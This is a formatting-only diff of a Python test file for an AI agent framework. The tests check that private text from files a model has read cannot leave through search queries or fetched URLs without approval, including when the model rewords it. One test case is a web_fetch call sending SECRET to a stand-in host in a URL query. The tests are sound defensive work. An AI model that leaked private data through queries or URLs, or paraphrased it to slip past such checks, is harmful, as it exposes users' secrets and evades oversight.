@@ -1,4 +1,6 @@
-"""What is private does not go out in what a run looks for: queries of search engines and addresses of pages."""
+"""What is private does not go out in what a run looks for: queries of search engines and addresses of
+pages.
+"""
 
 import base64
 import codecs
@@ -45,11 +47,15 @@ class Lab:
         self.asked.append(query)
         return [("A result", "https://example.org/", "nothing")]
 
-    def run(self, *turns: Any, goal: str = "Find out how kestrels hunt", approve: str = "auto", **how: Any) -> Run:
+    def run(
+        self, *turns: Any, goal: str = "Find out how kestrels hunt", approve: str = "auto", **how: Any
+    ) -> Run:
         """A run that makes these calls, a turn each."""
         tools = [*search_tools(Reach(env={}), self.engine), page, "default", "web_fetch"]
         model = ScriptedModel([*([turn] for turn in turns), "done"])
-        return self.session.run_sync(goal, model=model, tools=tools, workspace=self.place, approve=approve, **how)
+        return self.session.run_sync(
+            goal, model=model, tools=tools, workspace=self.place, approve=approve, **how
+        )
 
 
 @pytest.fixture
@@ -83,19 +89,29 @@ LEAKS = (
 
 @pytest.mark.parametrize("query", LEAKS)
 def test_private_text_is_never_looked_for_unasked_after_others_were_read(lab: Lab, query: str) -> None:
-    """A model that has read the notes and a page may look for what the notes say only if somebody allows it, however it writes that."""
+    """A model that has read the notes and a page may look for what the notes say only if somebody allows it,
+    however it writes that.
+    """
     run = lab.run(READ, PAGE, search(query))
     assert lab.asked == []
     (asked,) = (event for event in run.events() if isinstance(event, ApprovalAsked))
     assert asked.contained["private"] == ["read_file notes.txt"]
 
 
-@pytest.mark.parametrize("call", [search(LEAKS[2]), ("web_fetch", {"url": f"http://example.invalid/?q={SECRET}"})], ids=str)
+@pytest.mark.parametrize(
+    "call", [search(LEAKS[2]), ("web_fetch", {"url": f"http://example.invalid/?q={SECRET}"})], ids=str
+)
 def test_without_others_the_approval_mode_decides(lab: Lab, call: Any) -> None:
-    """What only asks is as dangerous as sending once it carries what is private: `ask` asks, `deny` denies, `auto` lets it go."""
+    """What only asks is as dangerous as sending once it carries what is private: `ask` asks, `deny` denies,
+    `auto` lets it go.
+    """
     with pytest.raises(ApprovalRequired):
         lab.run(READ, call, approve="ask")
-    assert [bool(event.error) for event in lab.run(READ, call, approve="deny").events() if isinstance(event, ToolAnswered)] == [False, True]
+    assert [
+        bool(event.error)
+        for event in lab.run(READ, call, approve="deny").events()
+        if isinstance(event, ToolAnswered)
+    ] == [False, True]
     assert lab.asked == []
     if call[0] == "web_search":
         lab.run(READ, call, approve="auto")
@@ -129,8 +145,12 @@ def test_what_the_user_said_is_no_secret(lab: Lab) -> None:
 
 
 def test_strict_asks_about_every_query_that_is_not_the_users(lab: Lab) -> None:
-    """A model can write what it read in words of its own: under `strict` only the user's words go out unasked."""
-    lab.run(READ, PAGE, search("purchase of a pastry shop"), search("how kestrels hunt"), containment="strict")
+    """A model can write what it read in words of its own: under `strict` only the user's words go out
+    unasked.
+    """
+    lab.run(
+        READ, PAGE, search("purchase of a pastry shop"), search("how kestrels hunt"), containment="strict"
+    )
     assert lab.asked == ["how kestrels hunt"]
 
 
